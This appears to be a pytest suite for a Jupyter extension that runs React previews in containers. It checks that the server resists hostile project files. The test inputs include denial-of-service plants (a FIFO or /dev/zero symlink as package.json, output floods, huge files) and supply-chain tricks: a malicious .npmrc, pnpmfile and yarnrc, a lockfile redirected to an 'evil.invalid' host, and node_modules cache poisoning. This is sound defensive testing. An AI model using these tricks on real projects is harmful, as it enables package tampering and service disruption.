"""The project folder and the container's output are hostile: files planted from inside a
running preview must not hang, bloat or stall the Jupyter server.  Throughout each
attack the server answers ``/api/status`` within a second."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import resource
import time

import pytest
from conftest import FIXTURES, engine_name, zip_dir
from test_attacks import get
from tornado.httpclient import AsyncHTTPClient, HTTPClientError

pytestmark = pytest.mark.docker

FOLLOWERS = 6


@pytest.fixture
def backend_config():
    return {"max_log_followers": FOLLOWERS}


@contextlib.asynccontextmanager
async def watched(jp_fetch):
    """Polls ``/api/status`` while the block runs; yields the list of its latencies.
    The server runs in this event loop, so a blocked loop shows as a slow answer."""
    latencies: list[float] = []
    done = asyncio.Event()

    async def poll():
        while not done.is_set():
            start = time.monotonic()
            await jp_fetch("api", "status")
            latencies.append(time.monotonic() - start)
            await asyncio.sleep(0.1)

    task = asyncio.ensure_future(poll())
    try:
        yield latencies
    finally:
        done.set()
        await task
    assert latencies and max(latencies) < 1.0, f"the server stalled: {max(latencies):.2f} s"


def sh(container, script: str):
    result = container.exec_run(["sh", "-c", f"cd /project && {script}"])
    assert result.exit_code == 0, result.output.decode(errors="replace")
    return result.output.decode(errors="replace")


async def test_a_fifo_or_a_link_to_dev_zero_as_package_json_is_a_clear_failure(
    api,
    jp_fetch,
    runtime,
    docker_client,
    owner,
    projects_dir,
):
    await api.upload_running()
    name = engine_name(owner, projects_dir, "shop")
    for plant, why in (
        ("mkfifo package.json", "is not a regular file"),
        ("ln -s /dev/zero package.json", "is a link, a folder or a special file"),
    ):
        sh(
            docker_client.containers.get(name),
            f"cp package.json /tmp/p && rm package.json && {plant}",
        )
        async with watched(jp_fetch):
            await jp_fetch(
                "reactbox", "api", "projects", "shop", "restart", method="POST", body=b""
            )
            failed = await api.wait("shop", "failed", timeout=60)
            assert "package.json cannot be read" in failed["error"] and why in failed["error"]
            r = await jp_fetch("reactbox", "api", "projects", "shop", "files")
            assert "package.json" not in json.loads(r.body)["files"]
        # Put it back by hand, as a user would: the project starts again.
        app = runtime.store.get("shop").app_dir
        os.unlink(app / "package.json")
        with pytest.raises(HTTPClientError) as err:  # no container runs to copy it back
            await jp_fetch("reactbox", "api", "projects", "shop", "files", "package.json")
        assert err.value.code == 404
        history_json = (await jp_fetch("reactbox", "api", "projects", "shop", "history")).body
        assert json.loads(history_json)["commits"]
        original = await asyncio.to_thread(_original_package_json, app)
        (app / "package.json").write_bytes(original)
        await jp_fetch("reactbox", "api", "projects", "shop", "start", method="POST", body=b"")
        await api.wait("shop")


def _original_package_json(app) -> bytes:
    from jupyter_reactbox import history

    return history.git(app, "show", "HEAD:package.json").encode()


async def test_thousands_of_public_files_do_not_stall_the_server(
    api,
    jp_fetch,
    docker_client,
    owner,
    server_url,
    projects_dir,
):
    info = await api.upload_running()
    container = docker_client.containers.get(engine_name(owner, projects_dir, "shop"))
    sh(
        container,
        "node -e \"const fs=require('fs'); for (let i = 0; i < 30000; i++) "
        "fs.writeFileSync('public/f' + i + '.txt', '')\"",
    )
    async with watched(jp_fetch):
        for _ in range(5):
            code, body = await get(server_url + info["preview_url"])
            assert code == 200 and b'<div id="root">' in body
            sh(container, "touch public/another-$RANDOM.txt")  # the listing changes each time


async def test_a_container_that_floods_its_output_keeps_a_bounded_log(
    api,
    jp_fetch,
    docker_client,
    owner,
    projects_dir,
):
    await api.upload_running()
    container = docker_client.containers.get(engine_name(owner, projects_dir, "shop"))
    async with watched(jp_fetch):
        # 64 MiB on the dev server's own output (what the engine keeps as its log).
        await asyncio.to_thread(
            sh, container, "head -c 67108864 /dev/zero | tr '\\0' x > /proc/1/fd/1"
        )
        r = await jp_fetch("reactbox", "api", "projects", "shop", "logs")
        assert len(r.body) < 8 << 20
    container.reload()
    kept = _log_bytes(container.attrs["LogPath"])
    assert 0 < kept <= 5 << 20, kept  # 2 files of at most 2 MiB, plus a line


def _log_bytes(log_path: str) -> int:
    """The engine's log of a container, with its rotated files."""
    folder, name = os.path.split(log_path)
    return sum(
        os.path.getsize(os.path.join(folder, f)) for f in os.listdir(folder) if f.startswith(name)
    )


async def test_abandoned_log_follows_free_their_threads_at_once(
    api, jp_fetch, jp_http_port, jp_base_url, jp_auth_header
):
    """Followed logs of a quiet dev server whose clients left must not hold the threads
    that start, stop and read every project's containers."""
    await api.upload_running()
    path = f"{jp_base_url}reactbox/api/projects/shop/logs?follow=1"
    auth = "".join(f"{k}: {v}\r\n" for k, v in jp_auth_header.items())

    async def open_follow() -> tuple[bytes, asyncio.StreamWriter]:
        reader, writer = await asyncio.open_connection("127.0.0.1", jp_http_port)
        writer.write(f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n{auth}\r\n".encode())
        await writer.drain()
        return await asyncio.wait_for(reader.readline(), 10), writer

    follows = [await open_follow() for _ in range(FOLLOWERS)]
    assert all(b" 200 " in status for status, _ in follows)
    for _, writer in follows:
        writer.close()  # the clients leave; the dev server prints nothing meanwhile

    async with watched(jp_fetch):
        call = ("reactbox", "api", "projects", "shop")
        await asyncio.wait_for(jp_fetch(*call, "stop", method="POST", body=b""), 10)
        await api.wait("shop", "stopped", timeout=10)
        await asyncio.wait_for(jp_fetch(*call, "start", method="POST", body=b""), 10)
        await api.wait("shop", timeout=30)
        await asyncio.wait_for(jp_fetch(*call, "logs"), 10)
    follows = [await open_follow() for _ in range(FOLLOWERS)]  # every slot is free again
    assert all(b" 200 " in status for status, _ in follows)
    status, writer = await open_follow()
    assert b" 429 " in status  # one more than the limit, refused before any output
    writer.close()
    for _, writer in follows:
        writer.close()


async def test_an_install_sees_only_the_manifest_the_lockfile_and_allowed_settings(
    api, jp_fetch, runtime
):
    """The project's ``.npmrc`` may say where npm writes (here its logs, into the
    project), ``.pnpmfile.cjs`` and ``.yarnrc.yml`` may name code and binaries to run:
    none of it reaches the install.  Settings that only shape the tree pass."""
    manifest = json.loads((FIXTURES / "vite-react" / "package.json").read_text())
    manifest["description"] = f"fresh fingerprint {time.time_ns()}"  # no cached install
    extra = {
        "package.json": json.dumps(manifest, indent=2).encode(),
        ".npmrc": b"logs-dir=/project/npmrc-was-read\nlegacy-peer-deps=true\n"
        b"@evil:registry=http://127.0.0.1:9/\n",
        ".pnpmfile.cjs": b"require('fs').mkdirSync('/project/pnpmfile-ran')\n",
        ".yarnrc.yml": b"yarnPath: .yarn/releases/evil.cjs\nplugins:\n  - .yarn/evil.cjs\n",
        ".corepack.env": b"COREPACK_INTEGRITY_KEYS=0\n",
    }
    r = await api.upload(zip_dir(FIXTURES / "vite-react", extra=extra), "shop")
    await api.wait(json.loads(r.body)["id"])
    app = runtime.store.get("shop").app_dir
    assert not (app / "npmrc-was-read").exists()  # npm never read the project's .npmrc
    assert (app / "node_modules" / "vite" / "package.json").is_file()
    log = (await jp_fetch("reactbox", "api", "projects", "shop", "logs")).body.decode()
    assert log.splitlines()[0].endswith("(legacy-peer-deps=true from .npmrc)"), log[:300]
    assert not [p.name for p in app.parent.iterdir() if p.name.startswith(".install-")]


async def test_a_lockfile_cannot_choose_where_a_package_comes_from(api, runtime):
    """A ``resolved`` URL on another host, with no integrity to check it by, is fetched
    from the configured registry instead (the .invalid host never resolves, so the old
    behaviour fails the install)."""
    lock = json.loads((FIXTURES / "vite-react" / "package-lock.json").read_text())
    react = lock["packages"]["node_modules/react"]
    react["resolved"] = f"http://evil.invalid/react/-/react-{react['version']}.tgz"
    del react["integrity"]
    manifest = json.loads((FIXTURES / "vite-react" / "package.json").read_text())
    manifest["description"] = f"fresh fingerprint {time.time_ns()}"
    extra = {
        "package.json": json.dumps(manifest, indent=2).encode(),
        "package-lock.json": json.dumps(lock, indent=2).encode(),
    }
    r = await api.upload(zip_dir(FIXTURES / "vite-react", extra=extra), "shop")
    await api.wait(json.loads(r.body)["id"])
    installed = runtime.store.get("shop").app_dir / "node_modules/react/package.json"
    assert json.loads(installed.read_text())["version"] == react["version"]


async def test_a_huge_body_to_rewrite_streams_through_without_being_held(
    api,
    jp_fetch,
    docker_client,
    owner,
    server_url,
    projects_dir,
):
    """A dev server answering a script of 512 MiB: the proxy passes it on in pieces
    (the page still gets all of it) instead of holding it to rewrite."""
    info = await api.upload_running()
    container = docker_client.containers.get(engine_name(owner, projects_dir, "shop"))
    size = 512 << 20
    sh(container, f"head -c {size} /dev/zero | tr '\\0' ' ' > public/huge.js")
    peak_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss << 10
    received = 0

    def count(chunk: bytes) -> None:
        nonlocal received
        received += len(chunk)

    async with watched(jp_fetch):
        client = AsyncHTTPClient(force_instance=True, max_body_size=size + (1 << 20))
        r = await client.fetch(
            server_url + info["preview_url"] + "huge.js",
            streaming_callback=count,
            request_timeout=120,
        )
    assert r.code == 200 and received == size
    grown = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss << 10) - peak_before
    assert grown < 128 << 20, f"the server's peak memory grew by {grown >> 20} MiB"
    sh(container, "rm public/huge.js")


async def test_a_start_cancelled_while_the_engine_makes_its_container_leaves_none(
    runtime,
    docker_client,
    owner,
    projects_dir,
):
    """A stop or delete cancels a start; the engine goes on making the container on
    its thread.  That container must not be left running outside the server's view
    (a re-upload of the name would otherwise find a stranger there)."""
    project = runtime.store.import_zip(zip_dir(FIXTURES / "vite-react"), "shop")
    plan = project.plan()
    name = engine_name(owner, projects_dir, "shop")
    left, cancelled = [], 0
    for delay in (0.05, 0.1, 0.15, 0.2, 0.25, 0.3, 0.4, 0.5):
        task = asyncio.ensure_future(
            runtime.backend.launch("shop", project.app_dir, plan, base="/x/", token="t")
        )
        await asyncio.sleep(delay)
        done_before = task.done()
        task.cancel()
        with contextlib.suppress(asyncio.CancelledError, Exception):
            await task
        await asyncio.sleep(1.5)  # whatever the engine was doing has finished
        found = docker_client.containers.list(all=True, filters={"name": f"^/{name}$"})
        if found and not done_before:
            left.append(delay)
        cancelled += not done_before
        for container in found:
            container.remove(force=True)
    assert cancelled >= 3, "the starts finished before they could be cancelled"
    assert left == [], f"cancelled starts left containers (cancelled after {left} s)"


async def test_a_preview_cannot_poison_the_node_modules_another_project_gets(
    api,
    jp_fetch,
    runtime,
    docker_client,
    owner,
    projects_dir,
):
    """A preview changes a package in its node_modules and the manifest the cache is
    keyed by, then its project is reinstalled.  A second project with that manifest
    gets its node_modules from the cache: never the changed package."""
    manifest = json.loads((FIXTURES / "vite-react" / "package.json").read_text())
    manifest["description"] = f"fresh fingerprint {time.time_ns()}"
    app_files = {"package.json": json.dumps(manifest, indent=2).encode(), "package-lock.json": b""}
    data = zip_dir(FIXTURES / "vite-react", extra=app_files)
    data = _without(data, "package-lock.json")  # `npm install`: it keeps what it finds
    r = await api.upload(data, "first")
    await api.wait(json.loads(r.body)["id"])
    sh(
        docker_client.containers.get(engine_name(owner, projects_dir, "first")),
        "echo '/* poisoned */' >> node_modules/react/index.js && rm -f package-lock.json && "
        "node -e \"const fs=require('fs'); const p=JSON.parse(fs.readFileSync('package.json'));"
        " p.keywords=['changed']; fs.writeFileSync('package.json', JSON.stringify(p))\"",
    )
    await jp_fetch("reactbox", "api", "projects", "first", "restart", method="POST", body=b"")
    await api.wait("first")  # reinstalled for the changed manifest
    changed = (runtime.store.get("first").app_dir / "package.json").read_bytes()

    second = _without(zip_dir(FIXTURES / "vite-react", extra={"package.json": changed}),
                      "package-lock.json")  # fmt: skip
    r = await api.upload(second, "second")
    await api.wait(json.loads(r.body)["id"])
    log = (await jp_fetch("reactbox", "api", "projects", "second", "logs")).body.decode()
    assert "copied from an earlier install" in log  # it came from the cache
    react = runtime.store.get("second").app_dir / "node_modules" / "react" / "index.js"
    assert "poisoned" not in react.read_text()


def _without(zipped: bytes, name: str) -> bytes:
    """The ZIP without one entry."""
    import io
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(zipped)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            if info.filename != name:
                dst.writestr(info, src.read(info))
    return out.getvalue()
